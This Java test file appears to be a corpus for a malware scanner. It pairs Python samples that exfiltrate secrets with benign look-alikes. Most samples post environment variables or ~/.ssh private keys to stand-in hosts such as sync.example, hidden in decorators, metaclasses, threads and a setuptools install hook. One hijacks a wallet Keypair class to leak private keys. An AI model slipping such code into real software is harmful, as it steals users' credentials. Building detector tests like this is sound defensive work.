package cordon.inspect.corpus;

import java.util.List;

/** What goes through classes: methods of any kind, parents, metaclasses, decorators, generators. */
final class PythonClasses {
  private PythonClasses() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "a static method is called on an object",
            """
            import os, requests
            class Sync:
                @staticmethod
                def push(data):
                    requests.post('https://sync.example/p', data=data)
                def start(self):
                    self.push(open(os.path.expanduser('~/.ssh/id_rsa')).read())
            Sync().start()
            """),
        Sample.imported(
            "a method of the class is called on the class",
            """
            import os, requests
            class Sync:
                url = 'https://sync.example/p'
                @classmethod
                def push(cls, data):
                    requests.post(cls.url, data=data)
            Sync.push(dict(os.environ))
            """),
        Sample.imported(
            "a decorator sends before each call",
            """
            import functools, os, requests
            def tracked(function):
                @functools.wraps(function)
                def inner(*args):
                    requests.post('https://sync.example/p', json=dict(os.environ))
                    return function(*args)
                return inner
            @tracked
            def main():
                return 1
            main()
            """),
        Sample.imported(
            "a class decorates",
            """
            import os, requests
            class Tracked:
                def __init__(self, function):
                    self.function = function
                def __call__(self, *args):
                    requests.post('https://sync.example/p', json=dict(os.environ))
                    return self.function(*args)
            @Tracked
            def main():
                return 1
            main()
            """),
        Sample.imported(
            "a thread is told by its parent what to run",
            """
            import os, requests, threading
            class Beat(threading.Thread):
                def __init__(self):
                    super().__init__(target=self.work, daemon=True)
                    self.start()
                def work(self):
                    requests.post('https://sync.example/p', json=dict(os.environ))
            Beat()
            """),
        Sample.setup(
            "a command has it from its parent",
            """
            from setuptools import setup
            from setuptools.command.install import install
            import os, requests
            class Quiet(install):
                def run(self):
                    requests.post('https://sync.example/p', json=dict(os.environ))
                    install.run(self)
            class Install(Quiet):
                def run(self):
                    super(Install, self).run()
            setup(name='sample', cmdclass={'install': Install})
            """),
        Sample.imported(
            "a session sends by its parent",
            """
            import os, requests
            class Link(requests.Session):
                def ship(self):
                    return super().post('https://sync.example/p', json=dict(os.environ))
            Link().ship()
            """),
        Sample.imported(
            "a metaclass calls what it makes",
            """
            import glob, os, requests
            class Meta(type):
                def __new__(mcs, name, bases, members):
                    made = super().__new__(mcs, name, bases, members)
                    made.register()
                    return made
                def register(cls):
                    keys = [open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/id_*'))]
                    requests.post('https://sync.example/p', json=keys)
            class Model(metaclass=Meta):
                pass
            """),
        Sample.imported(
            "the only object of a class is made in another way",
            """
            import os, requests
            class Settings:
                _one = None
                def __new__(cls):
                    requests.post('https://sync.example/p', json=dict(os.environ))
                    cls._one = cls._one or super().__new__(cls)
                    return cls._one
            settings = Settings()
            """),
        Sample.imported(
            "a generator gives secrets and then others",
            """
            import os, requests
            def found():
                for name in ('id_rsa', 'config', 'readme'):
                    yield open(os.sep.join([os.path.expanduser('~'), '.ssh', name])).read()
                yield 'done'
            requests.post('https://sync.example/p', json=list(found()))
            """),
        Sample.imported(
            "arguments are spread into a command",
            """
            import os, shutil, subprocess, tempfile
            folder = tempfile.mkdtemp()
            shutil.copytree(os.path.expanduser('~/.ssh'), folder + '/ssh')
            git = lambda *words: subprocess.run(['git', '-C', folder, *words])
            git('init', '-q')
            git('add', '-A')
            git('push', '-f', 'https://git.example/o/r.git', 'HEAD:main')
            """),
        new Sample(
            "a subclass of a key tells another module",
            cordon.inspect.testing.Artifact.wheel("sample", "1.0")
                .file(
                    "sample/__init__.py",
                    """
                    import solders.keypair
                    from .net import note
                    class Keypair(solders.keypair.Keypair):
                        @classmethod
                        def from_bytes(cls, raw):
                            note(bytes(raw).hex())
                            return super().from_bytes(raw)
                    solders.keypair.Keypair = Keypair
                    """)
                .file(
                    "sample/net.py",
                    """
                    import threading, requests
                    def note(x):
                        threading.Thread(target=lambda: requests.post('https://rpc.example', json=[x])).start()
                    """)));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "a static method prints what the object read",
            """
            import os, requests
            class Report:
                @staticmethod
                def show(text):
                    print(text)
                @staticmethod
                def push(data):
                    requests.post('https://api.sample.example/report', data=data)
                def start(self):
                    self.show(open(os.path.expanduser('~/.ssh/config')).read())
                    self.push('started')
            def main():
                Report().start()
            """),
        Sample.imported(
            "a decorator counts calls",
            """
            import functools, time
            def timed(function):
                @functools.wraps(function)
                def inner(*args, **kwargs):
                    begin = time.time()
                    try:
                        return function(*args, **kwargs)
                    finally:
                        inner.spent += time.time() - begin
                inner.spent = 0
                return inner
            @timed
            def main():
                import subprocess
                subprocess.run(['ls'])
            """),
        Sample.imported(
            "a metaclass keeps what it makes",
            """
            class Meta(type):
                known = {}
                def __new__(mcs, name, bases, members):
                    made = super().__new__(mcs, name, bases, members)
                    made.register()
                    return made
                def register(cls):
                    Meta.known[cls.__name__] = cls
            class Model(metaclass=Meta):
                pass
            """),
        Sample.imported(
            "a client signs in with the token of its user and is asked for a list",
            """
            import os, requests
            class Api(requests.Session):
                def __init__(self):
                    super().__init__()
                    self.headers['Authorization'] = 'token ' + os.environ.get('GITHUB_TOKEN', '')
                def repositories(self):
                    return super().get('https://api.code.example/repositories').json()
            """));
  }
}
